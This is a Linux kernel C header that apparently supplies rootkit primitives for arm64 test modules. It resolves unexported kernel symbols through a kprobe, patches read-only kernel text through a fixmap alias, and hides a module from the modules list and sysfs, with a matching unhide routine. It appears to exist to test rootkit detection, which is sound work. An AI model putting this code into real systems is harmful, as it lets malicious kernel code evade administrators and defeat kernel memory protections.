/* SPDX-License-Identifier: GPL-2.0 */
/*
 * rkit64.h - what the arm64 test rootkits share: find an unexported
 * function, write read-only kernel image memory, hide the module and link
 * it back (the AArch64 counterpart of ../rkit.h).
 *
 * rkit_lookup(name): kallsyms_lookup_name, itself found with a kprobe.
 * Debian's arm64 kernel has no CONFIG_KALLSYMS_ALL: functions only.
 * rkit_poke(dst, src, len): a copy into the kernel image (text or
 * read-only data, within one page) through a writable alias of its page
 * at the fixmap slot FIX_TEXT_POKE0 (what the kernel's own text patching
 * uses), mapped with __set_fixmap (found with rkit_lookup), interrupts
 * off; an aligned 4 or 8 bytes in one store; the instruction cache is
 * cleaned when dst is core text.  The kernel's patch_lock is static:
 * like real rootkits, this goes without it (the test guest is quiet).
 * rkit_hide(): unlink THIS_MODULE from the modules list and delete its
 * kobject (/sys/module, module_kset's list); its memory stays in
 * mod_tree.  rkit_unhide(): link it back into both lists (not sysfs).
 * For testing only.
 */
#ifndef RKIT64_H
#define RKIT64_H

#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/rculist.h>
#include <asm/cacheflush.h>
#include <asm/fixmap.h>
#include <asm/memory.h>
#include <asm/sections.h>

static unsigned long __maybe_unused rkit_lookup(const char *name)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*kln)(const char *);

	if (register_kprobe(&kp))
		return 0;
	kln = (void *)kp.addr;
	unregister_kprobe(&kp);
	return kln(name);
}

/* whether a is inside a module's memory: __module_address, unexported
 * since 5.x, found with rkit_lookup (0 and true when it cannot be found) */
static bool rkit_in_module(unsigned long a)
{
	static struct module *(*mod_address)(unsigned long);
	bool in;

	if (!mod_address)
		mod_address = (void *)rkit_lookup("__module_address");
	if (!mod_address)
		return true;
	preempt_disable();
	in = mod_address(a) != NULL;
	preempt_enable();
	return in;
}

typedef void (*rkit_set_fixmap_fn)(enum fixed_addresses, phys_addr_t, pgprot_t);

static int __maybe_unused rkit_poke(void *dst, const void *src, size_t len)
{
	static rkit_set_fixmap_fn rkit_setfix;
	unsigned long a = (unsigned long)dst, off = a & ~PAGE_MASK, flags;
	unsigned long stext = rkit_lookup("_stext"), etext = rkit_lookup("_etext");
	void *alias;

	if (!rkit_setfix)
		rkit_setfix = (rkit_set_fixmap_fn)rkit_lookup("__set_fixmap");
	if (!rkit_setfix || !stext || off + len > PAGE_SIZE)
		return -EINVAL;
	/* an address of the kernel image: its physical page is va - kimage_voffset */
	if (a < stext || a >= stext + SZ_1G || rkit_in_module(a))
		return -EFAULT;
	local_irq_save(flags);
	rkit_setfix(FIX_TEXT_POKE0, (a - kimage_voffset) & PAGE_MASK, FIXMAP_PAGE_NORMAL);
	alias = (void *)(__fix_to_virt(FIX_TEXT_POKE0) + off);
	if (len == 8 && !(a & 7))
		WRITE_ONCE(*(u64 *)alias, *(const u64 *)src);
	else if (len == 4 && !(a & 3))
		WRITE_ONCE(*(u32 *)alias, *(const u32 *)src);
	else
		memcpy(alias, src, len);
	rkit_setfix(FIX_TEXT_POKE0, 0, FIXMAP_PAGE_CLEAR);
	local_irq_restore(flags);
	if (a < etext)
		caches_clean_inval_pou(a, a + len);
	return 0;
}

static struct list_head *rkit_modules_head;	/* the kernel's `modules` */
static struct kset *rkit_kset;
static bool rkit_hidden;

/* the one entry of the modules list that is no module's memory (modules
 * lie anywhere in a 2 GiB window around the kernel on arm64, not only in
 * [MODULES_VADDR, MODULES_END)) */
static struct list_head *rkit_find_head(void)
{
	struct list_head *p, *head = NULL;
	int n = 0;

	for (p = THIS_MODULE->list.next; p != &THIS_MODULE->list && n < 100000; p = p->next, n++)
		if (!rkit_in_module((unsigned long)p)) {
			head = p;
			break;
		}
	return head;
}

static int __maybe_unused rkit_hide(void)
{
	rkit_modules_head = rkit_find_head();
	rkit_kset = THIS_MODULE->mkobj.kobj.kset;
	if (!rkit_modules_head || !rkit_kset)
		return -ENOENT;
	kset_get(rkit_kset);		/* kobject_del drops the kobject's reference */
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	rkit_hidden = true;
	return 0;
}

static void __maybe_unused rkit_unhide(void)
{
	if (!rkit_hidden)
		return;
	list_add_tail_rcu(&THIS_MODULE->list, rkit_modules_head);
	spin_lock(&rkit_kset->list_lock);
	list_add_tail(&THIS_MODULE->mkobj.kobj.entry, &rkit_kset->list);
	spin_unlock(&rkit_kset->list_lock);
	rkit_hidden = false;
}

#endif
